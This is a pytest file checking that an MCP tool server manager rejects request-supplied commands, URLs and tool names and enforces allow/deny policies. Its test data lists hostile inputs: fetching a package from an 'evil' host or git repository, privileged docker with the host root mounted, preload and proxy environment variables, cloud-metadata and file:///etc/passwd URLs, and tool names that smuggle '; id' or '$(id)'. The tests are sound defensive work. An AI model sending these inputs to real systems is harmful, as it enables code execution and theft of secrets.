"""Ways around lists of good and bad commands: no request starts what the operator's file does not name.

The rows are those by which other servers' checks of programs, arguments, variables, URLs and names gave way.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.mcp.files import loaded
from tests.mcp.serving import program
from tests.server.serving import HELLO, served
from tests.server.toolrunner import call, scripted
from unspool.mcp.manager import Manager

PROGRAMS: dict[str, dict[str, Any]] = {
    "glued flag": {"command": "python3", "args": ["-copen('{mark}','w')"]},
    "flags in one": {"command": "python3", "args": ["-Ic", "open('{mark}','w')"]},
    "another flag": {"command": "node", "args": ["-pe", "require('fs').writeFileSync('{mark}','')"]},
    "a module": {"command": "node", "args": ["--import", "data:text/javascript,1"]},
    "a script": {"command": "python3", "args": ["{script}"]},
    "a package": {"command": "npx", "args": ["-y", "evil"]},
    "a repository": {"command": "uvx", "args": ["--from", "git+https://evil.example/x", "x"]},
    "a container": {"command": "docker", "args": ["run", "-v", "/:/host", "--privileged", "x"]},
    "only the name": {"command": "{folder}/python3", "args": []},
    "a shell": {"command": "sh", "args": ["-c", "touch {mark}"]},
}
VARIABLES = (
    *("LD_PRELOAD", "LD_AUDIT", "PYTHONHOME", "PYTHONSTARTUP", "PYTHONPATH", "NODE_OPTIONS", "BASH_ENV"),
    *("npm_config_registry", "UV_INDEX_URL", "PIP_INDEX_URL", "GIT_SSH_COMMAND", "HTTP_PROXY", "DOCKER_HOST"),
)
ENTRIES = {**PROGRAMS, "variables": {"env": dict.fromkeys(VARIABLES, "{script}")}}
URLS = [
    *("http://169.254.169.254/latest", "http://localhost.evil.example/", "https://localhost@evil.example/"),
    *("file:///etc/passwd", "http://127.0.0.1:1/"),
]


def filled(value: Any, folder: Path) -> Any:
    """An entry whose programs would leave a mark in the folder."""
    text = json.dumps(value)
    for name, path in (("mark", folder / "mark"), ("script", folder / "script"), ("folder", folder)):
        text = text.replace(f"{{{name}}}", str(path))
    return json.loads(text)


@pytest.fixture
def url(tmp_path: Path) -> Iterator[str]:
    """A server with a tool that may run, one that may not, and one whose name is a command's."""
    for name in ("script", "python3"):
        (tmp_path / name).write_text(f"#!/bin/sh\ntouch {tmp_path / 'mark'}\n")
        (tmp_path / name).chmod(0o755)
    servers = {
        "time": program("tools", "stdio", tools={"echo": "allow", "environment": "allow", "*": "deny"}),
        "bash": program("tools", "stdio", tools={"echo": "allow", "*": "deny"}),
        "bash__echo": program("tools", "stdio", tools={"*": "deny"}),
    }
    engine = scripted(call("time__environment"), "Done.")
    with served(engine, runner=Manager(loaded(tmp_path, servers))) as url:
        yield url


def ask(url: str, api: str, entry: dict[str, Any]) -> httpx.Response:
    """Names a server of the file on one of the APIs, and says more of it."""
    body: dict[str, Any] = {"model": "default"}
    if api == "messages":
        body |= {"messages": HELLO, "max_tokens": 99, "mcp_servers": [{"type": "url", "name": "time", **entry}]}
    else:
        tool = {"type": "mcp", "server_label": "time", "require_approval": "never", **entry}
        body |= {"input" if api == "responses" else "messages": HELLO, "tools": [tool]}
    return httpx.post(f"{url}/v1/{api}", json=body, timeout=30)


@pytest.mark.parametrize("api", ["chat/completions", "responses", "messages"])
def test_a_request_adds_nothing_to_a_server(url: str, tmp_path: Path, api: str) -> None:
    for entry in ENTRIES.values():
        said = {"transport": "stdio", **filled(entry, tmp_path)}
        answer = ask(url, api, said)
        assert answer.status_code == 200
        assert "Done." in answer.text
        assert "LD_PRELOAD" not in answer.text
        for label in (
            {"server_label": "mine", "name": "mine"},
            {"server_label": "mine", "name": "mine", "url": "x"},
        ):
            assert ask(url, api, {**said, **label}).status_code == 400
    assert not (tmp_path / "mark").exists()


@pytest.mark.parametrize("api", ["chat/completions", "responses", "messages"])
def test_a_request_brings_no_url(url: str, api: str) -> None:
    key = "url" if api == "messages" else "server_url"
    for where in URLS:
        answer = ask(url, api, {key: where})
        assert (answer.status_code, "that a request brings are off" in answer.text) == (400, True)


def test_the_route_runs_what_it_lists_and_nothing_else(url: str, tmp_path: Path) -> None:
    def run(name: str, **more: Any) -> tuple[int, Any]:
        answer = httpx.post(f"{url}/v1/mcp/execute", json={"name": name, **more}, timeout=30)
        return answer.status_code, answer.json().get("output")

    before = run("time__environment")[1]
    for entry in ENTRIES.values():
        assert run("time__environment", **filled(entry, tmp_path)) == (200, before)
        assert run("mine__x", **filled(entry, tmp_path), approved=True)[0] == 404
    for name in ("sh", "bash", "time__environment; id", "time__environment|id", "../time__environment", "$(id)"):
        assert run(name, approved=True)[0] == 404
    assert not (tmp_path / "mark").exists()


def test_a_policy_is_of_a_server_and_a_tool_wherever_separators_stand(url: str) -> None:
    """A check of what stands behind the last ``__`` is none of what stands behind the first."""
    tools = httpx.get(f"{url}/v1/mcp/tools").json()["data"]
    policies = {(each["server"], each["tool"]): (each["name"], each["policy"]) for each in tools}
    allowed, policy = policies["bash", "echo"]
    assert policy == "allow"
    said = {"approved": True, "arguments": {"text": "cat /etc/passwd; $(id) ../.. http://x/~y | tee"}}
    answer = httpx.post(f"{url}/v1/mcp/execute", json={"name": allowed, **said})
    assert answer.json()["output"] == said["arguments"]["text"]  # type: ignore[index]
    for (server, _), (name, policy) in policies.items():
        if server == "bash__echo":
            assert policy == "deny"
            assert httpx.post(f"{url}/v1/mcp/execute", json={"name": name, **said}).status_code == 403
